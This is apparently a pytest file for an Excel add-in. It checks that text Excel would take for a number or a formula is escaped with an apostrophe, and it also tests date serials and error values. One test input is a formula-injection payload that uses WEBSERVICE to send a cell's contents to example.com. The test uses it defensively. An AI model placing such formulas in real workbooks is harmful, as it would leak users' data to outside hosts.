"""Cells between Excel and the refresh script."""

from __future__ import annotations

import datetime

import pytest

from addin.hosts.excel.remote_book import as_typed, formula_or_none, plain_cell
from udfs.errors import CellError
from workbook.ooxml.cell_xml import CellValue


@pytest.mark.parametrize("digest", ["1234567890123456", "12345678901234e6", "1e23456789012345"])
def test_a_text_that_excel_would_take_for_a_number_is_typed_with_an_apostrophe(digest: str) -> None:
    assert as_typed(digest) == f"'{digest}"


@pytest.mark.parametrize("name", ['=WEBSERVICE("https://example.com/"&A1)', "+A1", "-A1", "@SUM(A1)"])
def test_a_name_that_excel_would_take_for_a_formula_is_typed_with_an_apostrophe(name: str) -> None:
    """These four begin a formula: Microsoft's help on Range.values of Office.js, and on text that begins with @."""
    assert as_typed(name) == f"'{name}"


@pytest.mark.parametrize("value", ["dc0300eec5baa019", "0.1.0", "xlwings Lite", "", 2702, 46349.25, True, None])
def test_anything_else_is_typed_as_it_is(value: CellValue) -> None:
    assert as_typed(value) is value


def test_a_date_is_its_serial_number_and_an_error_value_its_code_alone() -> None:
    # 30 June 2020 is day 44012 in Excel's calendar from 1900.
    assert plain_cell(datetime.datetime(2020, 6, 30)) == 44012
    found = plain_cell("#N/A")
    assert isinstance(found, CellError)
    assert (found.code, found.sentence) == ("#N/A", "")


def test_the_formula_bar_shows_a_formula_or_a_value() -> None:
    assert [formula_or_none(shown) for shown in ("=AGEQ(A1,B1)", "Q2 2020", 404, "", None)] == [
        "AGEQ(A1,B1)",
        *[None] * 4,
    ]
